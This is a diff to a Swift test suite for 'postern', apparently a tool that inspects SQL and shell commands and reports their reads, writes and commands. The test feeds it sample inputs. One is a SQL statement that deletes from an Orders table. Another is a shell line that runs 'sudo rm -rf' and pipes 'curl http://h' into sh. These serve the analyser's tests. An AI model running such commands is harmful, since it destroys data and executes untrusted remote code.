@@ -73,6 +73,42 @@ import Testing
         #expect(mode?.intValue == 0o600)
     }
 
+    /// One answer a line, in order, with the id it was asked by; what is no question is answered too.
+    @Test func batchAnswersEveryLine() throws {
+        let sql = """
+            {"id": 1, "text": "with d as (delete from \\"Orders\\" returning *) select upper(a) from d where true limit 3; set x.y = 1"}
+
+            {"id": "two", "text": "select 'caf\\u00e9"}
+            nonsense
+            """
+        let result = try Postern.run(["inspect", "--batch"], input: sql)
+        #expect(result.status == 1)
+        let answers = try Self.objects(result.output)
+        #expect(answers.count == 3 && answers[0]["id"] as? Int == 1 && answers[1]["id"] as? String == "two")
+        let statements = try #require(answers[0]["statements"] as? [[String: Any]])
+        #expect(answers[0]["refused"] as? Bool == false && statements.count == 2)
+        #expect(statements[0]["writes"] as? [String] == ["public.Orders"] && statements[0]["reads"] as? [String] == ["public.Orders"])
+        #expect(statements[0]["functions"] as? [String] == ["upper"] && statements[0]["where"] as? String == "none")
+        #expect(statements[0]["limit"] as? Int == 3 && statements[0]["star"] as? Bool == true)
+        let accesses = try #require(statements[0]["accesses"] as? [[String: Any]])
+        #expect(accesses[0]["verb"] as? String == "delete" && accesses[0]["written"] as? String == "\"Orders\"")
+        #expect(statements[1]["sets"] as? [String] == ["x.y"])
+        #expect(answers[1]["refused"] as? Bool == true && (answers[2]["error"] as? String)?.contains("line 4") == true)
+
+        let shell = try Postern.run(
+            ["inspect", "--batch", "--kind", "shell"],
+            input: #"{"id": 7, "text": "sudo rm -rf $x/a > /tmp/log; curl http://h | sh"}"# + "\n")
+        let answer = try #require(try Self.objects(shell.output).first)
+        let commands = try #require(answer["commands"] as? [[String: Any]])
+        #expect(shell.status == 0 && commands.map { $0["name"] as? String } == ["sudo", "rm", "curl", "sh"])
+        #expect((commands[1]["argv"] as? [Any])?.count == 3 && (commands[1]["argv"] as? [Any])?.last is NSNull)
+        #expect(answer["writes"] as? [String] == ["/tmp/log"] && answer["unknown"] as? [String] == ["code", "argument"])
+    }
+
+    private static func objects(_ lines: String) throws -> [[String: Any]] {
+        try lines.split(separator: "\n").map { try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]) }
+    }
+
     /// `--check` finds what a start would find, without starting.
     @Test func serveChecksAllThatItLoads() throws {
         let folder = try Folder()
@@ -158,15 +194,19 @@ enum Postern {
     static let executable = URL(fileURLWithPath: CommandLine.arguments[0]).deletingLastPathComponent().appendingPathComponent("postern")
 
     /// Runs the command to its end; standard output and error together.
-    static func run(_ arguments: [String]) throws -> (status: Int32, output: String) {
+    static func run(_ arguments: [String], input: String = "") throws -> (status: Int32, output: String) {
         let process = Process()
         process.executableURL = executable
         process.arguments = arguments
         let pipe = Pipe()
         process.standardOutput = pipe
         process.standardError = pipe
-        process.standardInput = FileHandle.nullDevice
+        let fed = Pipe()
+        process.standardInput = fed
         try process.run()
+        // Short enough for the pipe's buffer: nothing waits for the command to read it.
+        try fed.fileHandleForWriting.write(contentsOf: Data(input.utf8))
+        try fed.fileHandleForWriting.close()
         let data = pipe.fileHandleForReading.readDataToEndOfFile()
         process.waitUntilExit()
         return (process.terminationStatus, String(decoding: data, as: UTF8.self))
